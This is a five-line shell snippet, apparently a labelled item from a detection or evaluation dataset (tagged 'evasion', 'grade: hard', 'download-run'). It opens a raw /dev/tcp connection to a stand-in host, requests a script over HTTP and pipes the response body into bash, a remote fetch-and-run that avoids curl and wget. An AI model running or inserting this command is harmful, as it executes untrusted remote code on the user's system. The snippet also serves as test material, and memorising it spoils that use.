# evasion: a script fetched over /dev/tcp and run
# grade: hard; does: download-run
exec 3<>/dev/tcp/203.0.113.5/80
printf 'GET /s HTTP/1.0\r\n\r\n' >&3
sed '1,/^\r$/d' <&3 | bash
